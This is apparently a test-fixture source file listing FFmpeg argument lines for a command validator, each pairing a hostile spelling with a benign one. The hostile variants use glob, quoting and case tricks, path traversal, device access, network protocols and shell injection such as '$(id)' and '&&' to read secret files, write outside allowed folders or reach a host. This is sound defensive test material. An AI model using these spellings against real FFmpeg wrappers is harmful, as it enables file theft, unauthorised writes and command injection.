/**
 * By spellings that FFmpeg, glob(3) or libavutil undo and a check might not: brackets of patterns, the
 * case of tee's options, quoted names and colons, positions of arguments, comments, empty names.
 */
export const spelledAttacks = String.raw`
R301 -f image2 -c:v rawvideo -pixel_format gray -video_size 30x1 -pattern_type glob -i ⟦.[].]/.[].]SECRET⇒[]s]ub/*.bin⟧ -frames:v 1 -f rawvideo o.bin
R302 -f image2 -c:v rawvideo -pixel_format gray -video_size 30x1 -pattern_type glob -i ⟦.[[:punct:]]/.[[:punct:]]SECRET⇒[[:alpha:]]ub/*.bin⟧ -frames:v 1 -f rawvideo o.bin
R303 -f image2 -c:v rawvideo -pixel_format gray -video_size 30x1 -pattern_type glob -i ⟦.[!]a]/.[^]a]SECRET⇒[!]a]ub/*.bin⟧ -frames:v 1 -f rawvideo o.bin
R304 -f image2 -c:v rawvideo -pixel_format gray -video_size 30x1 -pattern_type glob -i ⟦{.[].],x}/{.[].],y}SECRET⇒{s[]u]b,x}/*.bin⟧ -frames:v 1 -f rawvideo o.bin
R305 -f image2 -c:v rawvideo -pixel_format gray -video_size 30x1 -i ⟦.%[%].%]/.%[%].%]SECRET⇒%[%]s%]ub/%*.bin⟧ -frames:v 1 -f rawvideo o.bin
R306 -i in.mp4 -vf "sendcmd=c='⟦0 drawtext reinit font\\\\\\\\file=SECRET⇒0 drawtext reinit font\\\\\\\\color=red⇒SECRET⟧',drawtext=text=a:fontfile=FONT" -frames:v 1 -f null -
R307 -i in.mp4 -filter_complex "[0:a]showcqt=1920x1080:5:-1:-1:-1:1:16:4:3:1:1:0.17:0:20.01:20495:1:384*tc/(384+tc*f):6:0:FONT:Sans:0:⟦SECRET⇒a.png⟧" -frames:v 1 -f null -
R308 -i in.mp4 -filter_complex "[0:a]showcqt=1920x1080:5:-1:-1:-1:1:16:4:3:1:1:0.17:0:20.01:20495:1:384*tc/(384+tc*f):6:0:⟦SECRET⇒FONT⟧" -frames:v 1 -f null -
R309 -i in.mp4 -c:v libaom-av1 -aom-params ⟦"film-grain-table='a_:zones=/../../../app/secret'"⇒"film-grain-table='a_'"⇒"film-grain-table='a_:zones=/../../../app/secret'"⟧ -frames:v 1 -an a_:zones=/o.mp4
W301 -i in.mp4 -map 0:v -map 0:v -c copy -f hls -var_stream_map ⟦"v:0,name: v:1,name:b"⇒"v:0,name:a v:1,name:b"⇒"v:0,name: v:1,name:b"⟧ -hls_segment_filename .%v./.%v./link/out/%d.ts %v.m3u8
W302 -i in.mp4 -c copy -f hls -var_stream_map ⟦v:0,a:0,name:⇒v:0,a:0,name:a⟧ .%v./.%v./link/out/x.m3u8
W303 -i in.mp4 -map 0 -c copy -f tee "[f=hls:var_stream_map='⟦v\\:0,a\\:0,name\\:⇒v\\:0,a\\:0,name\\:a⟧'].%v./.%v./link/out/x.m3u8"
W304 -i in.mp4 -map 0 -c copy -f tee "[⟦F=tee]a.ts\\|OUT/b.ts⇒F=mpegts]a.ts⇒tee⟧"
W305 -i in.mp4 -map 0 -c copy -f tee "[f=mpegts:⟦F=tee]a.ts\\|OUT/b.ts⇒F=mpegts]a.ts⇒tee⟧"
W306 -i in.mp4 -map 0 -c copy -f tee "[f=segment:use_fifo=1:Fifo_options=⟦format_opts=segment_list=OUT/l⇒format_opts=segment_list=l⟧]s%d.ts"
W307 -i in.mp4 -c:v libx264 -x264-params ⟦"pass=1:stats='a_:zones=/../../../link/out/x':bitrate=100"⇒"pass=1:stats='a_':bitrate=100"⇒"pass=1:stats='a_:zones=/../../../link/out/x':bitrate=100"⟧ -an a_:zones=/o.mp4
W308 -i in.mp4 -c:v libx264 -x264-params ⟦"dump-yuv=a_\:zones=/../../../link/out/y"⇒"dump-yuv=a_"⇒"dump-yuv=a_\:zones=/../../../link/out/y"⟧ -stats_enc_pre a_:zones=/s -an -f null -
W309 -i in.mp4 -c:v libx265 -x265-params ⟦"csv='a_:zones=/../../../link/out/c'"⇒"csv='a_'"⇒"csv='a_:zones=/../../../link/out/c'"⟧ -an a_:zones=/o.mp4
W310 -i in.mp4 -vf "sendcmd=c='⟦0 [enter leave] curves plot OUT/c⇒0 [enter] curves plot c⇒OUT/c⟧',curves=lighter" -f null -
W311 -i in.mp4 -vf $'sendcmd=c=⟦# it\\\\\\\'s\n0 curves plot OUT/c⇒# it\\\\\\\'s\n0 curves plot c⇒OUT/c⟧,curves=lighter' -f null -
W312 -i in.mp4 -vf $'sendcmd=c=\'⟦#x\n#y\n#z\n#w\n#v\n0 curves plot OUT/c⇒#x\n#y\n#z\n#w\n#v\n0 curves plot c⇒OUT/c⟧\',curves=lighter' -f null -
N301 -i in.mp4 -map 0 -c copy -f tee "[⟦F=tee]a.ts\\|\\[f=mpegts\\]tcp\\://HOST⇒F=mpegts]a.ts⇒tee⟧"
N302 -f lavfi -i "movie=web.m3u8:hls:-1:0:dv:1:0:0:⟦\\'protocol_whitelist=file\\,http\\,tcp\\,crypto\\'⇒\\'live_start_index=0\\'⇒protocol_whitelist=file\\,http\\,tcp\\,crypto⟧" -f null -
N303 -i in.mp4 -vf uspp=codec=⟦h264_v4l2m2m⇒snow⟧ -f null -
N304 -f ⟦video4linux2,v4l2⇒matroska,webm⟧ -i in.bin -f null -
N305 -i in.mp4 -map 0 -c copy -f tee "[F=⟦rtp_mpegts⇒mpegts⟧]a.ts"
`

/** Protocols, formats, devices, options and positions that no other list names. */
export const rarerAttacks = String.raw`
N401 -i ⟦ipns://abc⇒in.ts⟧ -f null -
N402 -i ⟦rist://HOST⇒in.ts⟧ -f null -
N403 -i ⟦zmq:tcp://HOST⇒in.ts⟧ -f null -
N404 -i ⟦sctp://HOST⇒in.ts⟧ -f null -
N405 -i ⟦udplite://HOST⇒in.ts⟧ -f null -
N406 -i ⟦mmst://HOST/x⇒in.ts⟧ -f null -
N407 -i ⟦rtmps://HOST/a/b⇒in.flv⟧ -f null -
N408 -i ⟦rtmpe://HOST/a/b⇒in.flv⟧ -f null -
N409 -i ⟦srtp://HOST⇒in.ts⟧ -f null -
N410 -i ⟦prompeg:rtp://HOST⇒in.ts⟧ -f null -
N411 -i ⟦smb://HOST/x⇒in.ts⟧ -f null -
N412 -i ⟦httpproxy://HOST/x⇒in.ts⟧ -f null -
N413 -i ⟦ftps://HOST/x⇒in.ts⟧ -f null -
N414 -i ⟦HTTP://HOST/x⇒in.ts⟧ -f null -
N415 -i ⟦ht\tp://HOST/x⇒in.ts⟧ -f null -
N416 -i ⟦h"tt"p':'//HOST/x⇒in.ts⟧ -f null -
N417 -i ⟦$'http\x3a//HOST/x'⇒in.ts⇒$'http\x3a//HOST/x'⟧ -f null -
N418 -i ⟦//HOST/x⇒in.ts⟧ -f null -
N419 -i ⟦\\\\HOST\\share\\x⇒in.ts⟧ -f null -
N420 -f ⟦sap -i sap://224.2.127.254⇒mpegts -i in.ts⇒sap⟧ -f null -
N421 -i in.mp4 -c copy -f ⟦sap sap://224.2.127.254⇒mpegts a.ts⇒sap⟧
N422 -i in.mp4 -c copy -f ⟦whip http://HOST/w⇒mpegts a.ts⇒whip⟧
N423 -i in.mp4 -map 0 -c copy -f segment -segment_format ⟦rtp_mpegts⇒mpegts⟧ s%d.ts
N424 -i in.mp4 -map 0 -c copy -f fifo -fifo_format ⟦rtsp⇒mpegts⟧ a.ts
N425 -i in.mp4 -map 0 -c copy -f tee "[f=⟦rtp⇒mpegts⟧]a.ts"
N426 -i in.mp4 -c copy -f dash -http_opts ⟦method=PUT⇒multiple_requests=1⟧ x.mpd
N427 -i in.mp4 -c copy -f hls -hls_segment_options ⟦headers=X⇒mpegts_flags=resend_headers⟧ x.m3u8
N428 -f hls -seg_format_options ⟦protocol_whitelist=ALL⇒probesize=9000⟧ -i in.m3u8 -f null -
N429 -i in.mp4 -f image2 -protocol_opts ⟦http_proxy=http\://HOST⇒blocksize=4096⟧ %d.png
N430 ⟦-post_data 00⇒-re⇒-post_data⟧ -i in.mp4 -f null -
N431 ⟦-key_file SECRET⇒-re⇒-key_file⟧ -i in.mp4 -f null -
N432 ⟦-cert_file SECRET⇒-re⇒-cert_file⟧ -i in.mp4 -f null -
N433 ⟦-private_key SECRET⇒-re⇒-private_key⟧ -i in.mp4 -f null -
N434 ⟦-ca_file SECRET⇒-re⇒-ca_file⟧ -i in.mp4 -f null -
N435 -i in.mp4 ⟦-method:v PUT⇒-b:v 1M⇒-method:v⟧ -f null -
N436 -f ⟦alsa -i hw:0⇒wav -i in.wav⇒alsa⟧ -f null -
N437 -f ⟦jack -i x⇒wav -i in.wav⇒jack⟧ -f null -
N438 -f ⟦openal -i x⇒wav -i in.wav⇒openal⟧ -f null -
N439 -f ⟦libcdio -i /dev/sr0⇒wav -i in.wav⇒libcdio⟧ -f null -
N440 -f ⟦iec61883 -i auto⇒dv -i in.dv⇒iec61883⟧ -f null -
N441 -f ⟦libdc1394 -i x⇒dv -i in.dv⇒libdc1394⟧ -f null -
N442 -f dvdvideo -i ⟦/dev/sr0⇒disc.iso⟧ -f null -
N443 -i ⟦bluray:/mnt⇒in.ts⟧ -f null -
N444 -i in.mp4 -f ⟦caca⇒matroska⟧ a.mkv
N445 -i in.mp4 -f ⟦xv⇒matroska⟧ a.mkv
N446 -i in.mp4 -f ⟦opengl⇒matroska⟧ a.mkv
N447 -i in.mp4 -f ⟦alsa,matroska⇒matroska⟧ a.mkv
N448 -i in.mp4 -f ⟦ALL⇒matroska⟧ a.mkv
N449 -i in.mp4 -f ⟦-matroska⇒matroska⟧ a.mkv
N450 -f ⟦vapoursynth -i x.vpy⇒mpegts -i in.ts⇒vapoursynth⟧ -f null -
N451 -f ⟦avisynth -i x.avs⇒mpegts -i in.ts⇒avisynth⟧ -f null -
N452 ⟦-qsv_device /dev/dri/card0⇒-re⇒-qsv_device⟧ -i in.mp4 -f null -
N453 ⟦-vaapi_device /dev/dri/renderD128⇒-re⇒-vaapi_device⟧ -i in.mp4 -f null -
N454 ⟦-filter_hw_device x⇒-re⇒-filter_hw_device⟧ -i in.mp4 -f null -
N455 ⟦-hwaccel_device:v /dev/dri/card0⇒-re⇒-hwaccel_device:v⟧ -i in.mp4 -f null -
N456 -i in.mp4 -c:v ⟦h264_nvenc⇒libx264⟧ a.mp4
N457 -c:v ⟦h264_cuvid⇒h264⟧ -i in.mp4 a.mp4
N458 -i in.mp4 -codec:v:0 ⟦H264_V4L2M2M⇒libx264⟧ a.mp4
N459 -i in.mp4 -vf ⟦hwmap=derive_device=vaapi⇒null⇒hwmap⟧ -f null -
N460 -i in.mp4 -vf ⟦hwupload⇒null⟧ -f null -
N461 -i in.mp4 -filter_complex "[0:v][0:v]⟦xfade_opencl=source=SECRET:kernel=x:transition=custom⇒xfade⇒xfade_opencl⟧" -f null -
N462 -f lavfi -i ⟦openclsrc=source=SECRET:kernel=x⇒color⇒openclsrc⟧ -t 1 -f null -
N463 -i in.mp4 -af ⟦whisper=model=SECRET⇒anull⇒whisper⟧ -f null -
N464 -f lavfi -i "movie=in.bin:f=⟦x11grab⇒h264⟧" -f null -
N465 -f lavfi -i "movie=in.bin:⟦rtsp⇒h264⟧" -f null -
R501 -f data -i ⟦~/secret⇒in.bin⟧ -map 0 -c copy -f data o.bin
R502 -f data -i ⟦~root/secret⇒in.bin⟧ -map 0 -c copy -f data o.bin
R503 -f data -i ⟦C:/secret⇒in.bin⟧ -map 0 -c copy -f data o.bin
R504 -f data -i ⟦C:\\secret⇒in.bin⟧ -map 0 -c copy -f data o.bin
R505 -f data -i ⟦..⇒in.bin⟧ -map 0 -c copy -f data o.bin
R506 -f data -i ⟦sub/..//..//REL_SECRET⇒sub//in.bin⟧ -map 0 -c copy -f data o.bin
R507 -f data -i ⟦sub/./../REL_SECRET⇒sub/./in.bin⟧ -map 0 -c copy -f data o.bin
R509 -f data -i ⟦"concat:in.bin|subfile,,start,0,end,9,,:SECRET"⇒"concat:in.bin|in.bin"⇒"concat:in.bin|subfile,,start,0,end,9,,:SECRET"⟧ -map 0 -c copy -f data o.bin
R510 -f data -i ⟦crypto+file:SECRET⇒in.bin⟧ -map 0 -c copy -f data o.bin
R511 -f lavfi -i "movie=in.mov:format_opts=⟦enable_drefs=1⇒ignore_editlist=1⟧" -f null -
R512 -f lavfi -i "movie=in.mov:format_opts=⟦'use_absolute_path'=1⇒'ignore_editlist'=1⇒use_absolute_path'=1⟧" -f null -
R513 -f lavfi -i "movie=x:f=⟦lavfi⇒h264⟧" -f null -
R514 -f lavfi -i "movie=x.idx:format_opts=⟦sub_name=SECRET⇒sub_name=x.sub⟧" -f null -
R515 -f lavfi -graph "nullsrc[out0];movie=⟦SECRET⇒in.bin⟧[out1]" -i x -f null -
R516 -i in.mp4 ⟦-/map SECRET⇒-map 0⇒-/map⟧ -f null -
R517 ⟦-/i SECRET⇒-i in.mp4⇒-/i⟧ -f null -
R518 -i in.mp4 ⟦-print_graphs_file OUT/g⇒-re⇒-print_graphs_file⟧ -f null -
R519 -i in.mp4 -vf "drawtext=⟦SECRET⇒FONT⟧:hello" -frames:v 1 -f null -
R520 -i in.mp4 -vf "drawtext=FONT:hello:⟦SECRET⇒notes.txt⟧" -frames:v 1 -f null -
R521 -i in.mp4 -vf "subtitles=in.srt:64x64:⟦/app⇒fonts⟧" -f null -
R522 -i in.mp4 -filter_complex "[0:a]showcqt=fontfile=⟦SECRET⇒FONT⟧" -f null -
R523 -i in.mp4 -vf "curves=none:none:none:none:none:none:⟦SECRET⇒a.acv⟧" -f null -
W501 -i in.mp4 -vf "curves=none:none:none:none:none:none:a.acv:⟦OUT/p⇒p⟧" -f null -
W502 -i in.mp4 -vf "metadata=print:::::⟦OUT/m⇒m⟧" -f null -
W503 -i in.mp4 -vf "deshake=0:0:64:64:16:16:edge=blank:filename=⟦OUT/d⇒d⟧" -f null -
W505 -i in.mp4 -c copy -f hls -hls_subtitle_path ⟦OUT/s⇒s⟧ x.m3u8
W506 -i in.mp4 -c copy -f segment -segment_format hls -segment_format_options ⟦hls_segment_filename=OUT/h⇒hls_segment_filename=h⟧ s%d.ts
W508 -i in.mp4 -map 0 -c copy -f tee -fifo_options ⟦fifo_format=tee⇒queue_size=9⟧ "[f=mpegts:use_fifo=1]a.ts"
W509 -i in.mp4 -c copy ⟦"OUT/a b.mp4"⇒"a b.mp4"⇒"OUT/a b.mp4"⟧
W510 -i in.mp4 -c copy ⟦sub/..⇒sub/a.mp4⟧
W511 -i in.mp4 -c copy -f mp4 ⟦>OUT/x⇒x⟧
W512 -i in.mp4 -c copy -f mp4 a.mp4 ⟦2>OUT/x⇒b.mp4⟧
W513 -i in.mp4 -c copy -f mp4 a.mp4 ⟦&&⇒b.mp4⟧ id.mp4
W515 -i in.mp4 -c copy -f mp4 ⟦$(id)⇒id⟧
W516 -i in.mp4 -map 0:v -c copy -f hls -var_stream_map ⟦v:0,name:../../link/out/a⇒v:0,name:a⟧ -hls_segment_filename %v/%d.ts x.m3u8
`
